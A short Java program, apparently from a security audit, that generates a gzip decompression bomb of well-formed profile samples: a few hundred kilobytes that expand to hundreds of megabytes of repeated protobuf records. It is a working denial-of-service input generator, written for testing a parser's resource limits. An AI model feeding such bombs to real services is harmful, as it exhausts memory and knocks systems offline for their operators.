import java.io.BufferedOutputStream;
import java.io.FileOutputStream;
import java.io.OutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Writes the audit's gzip bomb of well-formed samples: a sample type and string table, then
 * SIZE bytes of the 5-byte sample {value: 1}, gzipped (300 MB become 437 KB).
 * Usage: java SampleBomb.java OUT [SIZE]
 */
public class SampleBomb {
    public static void main(String[] args) throws Exception {
        long size = args.length > 1 ? Long.parseLong(args[1]) : 300_000_000L;
        byte[] header = {0x0a, 0x04, 0x08, 0x01, 0x10, 0x02, 0x32, 0x00,
            0x32, 0x07, 's', 'a', 'm', 'p', 'l', 'e', 's', 0x32, 0x05, 'c', 'o', 'u', 'n', 't'};
        byte[] sample = {0x12, 0x03, 0x12, 0x01, 0x01};
        byte[] block = new byte[sample.length << 16];
        for (int i = 0; i < block.length; i++) {
            block[i] = sample[i % sample.length];
        }
        size -= size % sample.length;
        try (OutputStream out = new GZIPOutputStream(new BufferedOutputStream(new FileOutputStream(args[0])), 1 << 16)) {
            out.write(header);
            for (long written = 0; written < size; written += block.length) {
                out.write(block, 0, (int) Math.min(block.length, size - written));
            }
        }
    }
}
